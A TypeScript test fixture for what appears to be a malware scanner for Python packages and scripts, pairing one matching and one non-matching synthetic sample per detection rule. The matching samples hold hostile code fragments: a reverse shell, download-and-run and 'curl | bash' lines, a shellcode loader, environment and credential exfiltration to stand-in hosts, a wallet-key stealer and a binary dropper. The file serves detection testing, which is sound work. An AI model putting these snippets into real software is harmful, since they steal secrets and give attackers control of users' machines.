// One sample that must fire and one that must not, per rule. Synthetic code written for the tests.
export interface Sample {
  path: string;
  source: string;
}

const longB64 = 'aGVsbG8gd29ybGQ5'.repeat(80);
const longLiteral = `print('${'x'.repeat(150)}')`;

export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
  'exec-decoded-payload': {
    match: {
      path: 'pkg/__init__.py',
      source:
        'import base64\nfrom fernet import Fernet\nexec(base64.b64decode("cHJpbnQoMSk="))\nexec(Fernet(b"k").decrypt(b"gAAAA"))\n',
    },
    noMatch: {
      path: 'pkg/__init__.py',
      source: 'import base64\ndata = base64.b64decode(blob)\nexec("x = 1")\n',
    },
  },
  'exec-alias': {
    match: { path: 'pkg/styled.py', source: 'import os\ncolor_print = exec\ncolor_print(payload)\n' },
    noMatch: { path: 'pkg/styled.py', source: 'import os\nprinter = print\nresult = eval_expression(x)\n' },
  },
  'install-time-exec': {
    match: {
      path: 'evil-1.0/setup.py',
      source:
        'from setuptools import setup\nimport urllib.request\ncode = urllib.request.urlopen(u).read()\nexec(code)\nsetup(name="evil")\n',
    },
    noMatch: {
      path: 'good-1.0/setup.py',
      source:
        'from setuptools import setup\nabout = {}\nexec(open("good/__version__.py").read(), about)\nsetup(name="good", version=about["__version__"])\n',
    },
  },
  'download-and-execute': {
    match: {
      path: 'pkg/__init__.py',
      source:
        'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "a.exe")\nsubprocess.Popen(["a.exe"])\n',
    },
    noMatch: {
      path: 'pkg/__init__.py',
      source: 'import requests\ndef f():\n    return requests.get(u).json()\n',
    },
  },
  'shellcode-loader': {
    match: {
      path: 'pkg/run.py',
      source:
        'import ctypes\nk = ctypes.windll.kernel32\np = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, buf, n)\n',
    },
    noMatch: { path: 'pkg/run.py', source: 'import ctypes\nctypes.windll.kernel32.GetTickCount()\n' },
  },
  'exec-string-literal': {
    match: { path: 'pkg/m.py', source: `exec(${JSON.stringify(longLiteral)})\n` },
    noMatch: { path: 'pkg/m.py', source: 'exec("x = 1")\n' },
  },
  'marshal-code-load': {
    match: { path: 'pkg/m.py', source: 'import marshal\ncode = marshal.loads(data)\n' },
    noMatch: { path: 'pkg/m.py', source: 'import marshal\nmarshal.dumps(obj)\n' },
  },
  'dynamic-import': {
    match: { path: 'pkg/m.py', source: "m = __import__(''.join(['o', 's']))\n" },
    noMatch: {
      path: 'pkg/m.py',
      source: "import importlib\nimportlib.import_module('json')\nimportlib.import_module('pkg.' + name)\n",
    },
  },
  'install-time-process': {
    match: { path: 'pkg-1.0/setup.py', source: 'import os\nos.system("curl x | sh")\nsetup(name="x")\n' },
    noMatch: {
      path: 'pkg-1.0/setup.py',
      source: 'from setuptools import setup\nsetup(name="x", version="1.0")\n',
    },
  },
  'install-time-network': {
    match: {
      path: 'pkg-1.0/setup.py',
      source: 'import requests\nrequests.post("https://x.example", data=d)\n',
    },
    noMatch: { path: 'pkg-1.0/setup.py', source: 'import io\nlong = io.open("README.md").read()\n' },
  },
  'pth-executable': {
    match: { path: 'evil.pth', source: 'import os; os.system("id")\n' },
    noMatch: { path: 'paths.pth', source: '/opt/lib/python\n./src\n' },
  },
  'process-execution': {
    match: { path: 'pkg/m.py', source: 'import subprocess as sp\ndef f():\n    sp.run(["git", "status"])\n' },
    noMatch: {
      path: 'pkg/m.py',
      source: 'import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n',
    },
  },
  'network-access': {
    match: { path: 'pkg/m.py', source: 'import socket\ns = socket.socket()\n' },
    noMatch: { path: 'pkg/m.py', source: 'import socket\nprint(socket.AF_INET)\n' },
  },
  persistence: {
    match: {
      path: 'pkg/m.py',
      source:
        'import os\np = os.path.expanduser("~/.bashrc")\nkey = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n',
    },
    noMatch: { path: 'pkg/m.py', source: 'p = "~/.config/mytool/settings.ini"\n' },
  },
  'credential-paths': {
    match: { path: 'pkg/m.py', source: 'p = r"Google\\Chrome\\User Data\\Default\\Login Data"\n' },
    noMatch: { path: 'pkg/m.py', source: 'p = "data/login.html"\n' },
  },
  'clipboard-access': {
    match: { path: 'pkg/m.py', source: 'import pyperclip\ndef f():\n    return pyperclip.paste()\n' },
    noMatch: { path: 'pkg/m.py', source: 'def paste(x):\n    return x\npaste(1)\n' },
  },
  'sysinfo-read': {
    match: { path: 'pkg-1.0/setup.py', source: 'import getpass\nuser = getpass.getuser()\n' },
    noMatch: { path: 'pkg-1.0/setup.py', source: 'import platform\nprint(platform.python_implementation)\n' },
  },
  'anti-analysis': {
    match: { path: 'pkg/m.py', source: 'BAD = ["vmware", "VirtualBox", "wireshark", "x64dbg"]\n' },
    noMatch: { path: 'pkg/m.py', source: 'HYPERVISOR = "vmware"\n' },
  },
  'exfil-endpoint': {
    match: { path: 'pkg/m.py', source: 'HOOK = "https://discord.com/api/webhooks/123/abc"\n' },
    noMatch: { path: 'pkg/m.py', source: 'DOCS = "https://discord.com/invite/project"\n' },
  },
  'suspicious-url': {
    match: { path: 'pkg/m.py', source: 'URL = "http://45.12.3.4:8080/a"\n' },
    noMatch: { path: 'pkg/m.py', source: 'URL = "http://127.0.0.1:8080/a"\n' },
  },
  'obfuscator-marker': {
    match: {
      path: 'pkg/m.py',
      source: 'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")\n',
    },
    noMatch: { path: 'pkg/m.py', source: 'import armor\narmor.wrap()\n' },
  },
  'obfuscated-identifiers': {
    match: { path: 'pkg/m.py', source: '_0x1a2b = 1\n_0x3c4d = 2\nIlIlIlIl = _0x1a2b + _0x3c4d\n' },
    noMatch: { path: 'pkg/m.py', source: 'ILLINOIS = 1\nx0 = 2\nhex_0x = 3\n' },
  },
  'chr-chain': {
    match: {
      path: 'pkg/m.py',
      source: `s = ${Array.from('http://evil', (c) => `chr(${c.charCodeAt(0)})`).join('+')}\n`,
    },
    noMatch: { path: 'pkg/m.py', source: 's = chr(65) + chr(66)\n' },
  },
  'long-line': {
    match: {
      path: 'pkg/m.py',
      source: `x = 1${' '.repeat(300)};import os;os.system("id")${';y=f()'.repeat(400)}\n`,
    },
    noMatch: { path: 'pkg/m.py', source: `DATA = "${'a'.repeat(3000)}"\n` },
  },
  'encoded-blob': {
    match: { path: 'pkg/__init__.py', source: `PAYLOAD = "${longB64}"\n` },
    noMatch: { path: 'pkg/__init__.py', source: `TEXT = "${'lorem ipsum dolor sit amet, '.repeat(60)}"\n` },
  },
  'env-exfil': {
    match: {
      path: 'evil-1.0/setup.py',
      source:
        'import os, requests, socket\nrequests.post("https://x.example/c", json=dict(os.environ))\nsocket.gethostbyname(f"{os.getlogin()}.abc.oast.fun")\n',
    },
    noMatch: {
      path: 'pkg/client.py',
      source:
        'import os, requests, socket\ndef fetch(url):\n    return requests.get(url, timeout=5)\nip = socket.gethostbyname(socket.gethostname())\ndef home():\n    return os.getenv("HOME")\n',
    },
  },
  'startup-file-write': {
    match: {
      path: 'pkg/__init__.py',
      source:
        'import site, os\nd = site.getsitepackages()[0]\nwith open(os.path.join(d, "zz" + ".pth"), "w") as f:\n    f.write("import pkg._boot")\n',
    },
    noMatch: {
      path: 'pkg/__init__.py',
      source: 'import os\nwith open("settings.json", "w") as f:\n    f.write("{}")\nPTH = "model.pth"\n',
    },
  },
  'secret-beacon': {
    match: {
      path: 'oss2/credentials.py',
      source:
        'import requests\nclass Credentials:\n    def __init__(self, access_key_id, access_key_secret):\n        self.access_key_id = access_key_id\n        try:\n            data = {"ak": access_key_id, "sk": access_key_secret}\n            requests.post(url="https://api.sdk-requests.example/a", json=data)\n        except:\n            pass\n',
    },
    noMatch: {
      path: 'pkg/auth.py',
      source:
        'import requests\ndef login(client_id, client_secret):\n    r = requests.post("https://auth.example/token", data={"id": client_id, "secret": client_secret})\n    r.raise_for_status()\n    return r.json()\n',
    },
  },
  'reverse-shell': {
    match: {
      path: 'PIL/Image.py',
      source:
        'def open(fp):\n    import socket, os, pty\n    s = socket.socket()\n    s.connect(("localhost", 54321))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn("/bin/sh")\n',
    },
    noMatch: {
      path: 'pkg/term.py',
      source:
        'import os, pty, socket\ndef shell(master, slave):\n    os.dup2(slave, 0)\n    pty.spawn("/bin/sh")\ndef ping(host):\n    return socket.create_connection((host, 80))\n',
    },
  },
  'hidden-endpoint': {
    match: {
      path: 'pkg/report.py',
      source:
        'import base64, requests\ndef report(data):\n    url = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdg==").decode()\n    requests.post(url, json=data)\n',
    },
    noMatch: {
      path: 'pkg/report.py',
      source:
        'import requests\nBASE = "https://api.example.com"\ndef report(data, region):\n    requests.post(BASE + "/v1/report", json=data)\n    requests.get("https://" + region + ".api.example.com/ping")\n',
    },
  },
  'remote-command': {
    match: {
      path: 'pkg/client/messages.py',
      source:
        'import base64, os, requests\ndef sync(self):\n    resp = requests.get("https://tg.example/t")\n    os.system(base64.b64decode(resp.text).decode("utf-8"))\n',
    },
    noMatch: {
      path: 'pkg/bootstrap.py',
      source:
        'import os, urllib.request\ndef bootstrap(ns):\n    exec(urllib.request.urlopen("https://bootstrap.pypa.io/ez_setup.py").read(), ns)\n    r = urllib.request.urlopen("https://api.example.com/v")\n    os.system("git pull")\n',
    },
  },
  'wallet-monkeypatch': {
    match: {
      path: 'set_utils/__init__.py',
      source:
        'from eth_account import Account\n_orig = Account.create\ndef _create(*a, **k):\n    acct = _orig(*a, **k)\n    _send(acct.key)\n    return acct\nAccount.create = _create\n',
    },
    noMatch: {
      path: 'wallet/keys.py',
      source:
        'from eth_account import Account\nimport web3\ndef new_key():\n    acct = Account.create()\n    acct.label = "main"\n    return acct\nw3 = web3.Web3()\nw3.eth.default_account = None\n',
    },
  },
  'binary-dropper': {
    match: {
      path: 'pkg/__init__.py',
      source:
        'import os, subprocess, tempfile\ndef _go():\n    p = os.path.join(tempfile.gettempdir(), "svc")\n    with open(p, "wb") as f:\n        f.write(BLOB)\n    os.chmod(p, 0o755)\n    subprocess.Popen([p])\n_go()\n',
    },
    noMatch: {
      path: 'pkg/tool.py',
      source:
        'import os, subprocess\nTOOL = os.path.join(os.path.dirname(__file__), "bin", "tool")\ndef run(args):\n    return subprocess.run([TOOL, *args], check=True)\n',
    },
  },
  'dangerous-command': {
    match: {
      path: 'pkg/worker.py',
      source:
        'import subprocess, os\ndef fetch(file):\n    subprocess.Popen(f"cd /tmp && wget -q https://x.example/b -O {file} && chmod +x {file}", shell=True)\n    os.system("python3 /tmp/file.py >/dev/null 2>&1 &")\nsubprocess.Popen(["python3", "-c", "import helper_cache"], close_fds=True)\n',
    },
    noMatch: {
      path: 'pkg/build.py',
      source:
        'import subprocess, sys\ndef version():\n    return subprocess.check_output(["git", "describe", "--tags"]).decode()\ninc = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])\nsubprocess.run(["curl", "-o", "data.json", URL], check=True)\n',
    },
  },
};

export const TEXT_SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
  'script-download-execute': {
    match: { path: 'tools/install.sh', source: '#!/bin/sh\ncurl -fsSL http://x.example/p | bash\n' },
    noMatch: {
      path: 'tools/install.sh',
      source: '#!/bin/sh\ncurl -fsSL -o out.tar.gz https://x.example/p\n',
    },
  },
  'script-encoded-command': {
    match: { path: 'run.bat', source: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n' },
    noMatch: { path: 'run.bat', source: 'powershell -File build.ps1\n' },
  },
  'script-exfil-endpoint': {
    match: { path: 'a.js', source: 'fetch("https://api.telegram.org/bot123:abc/sendMessage")\n' },
    noMatch: { path: 'a.js', source: 'fetch("https://example.org/api")\n' },
  },
  'script-suspicious-url': {
    match: { path: 'a.ps1', source: 'iwr http://203.0.113.9/x.exe -OutFile x.exe\n' },
    noMatch: { path: 'a.ps1', source: 'iwr https://example.org/x.zip -OutFile x.zip\n' },
  },
};
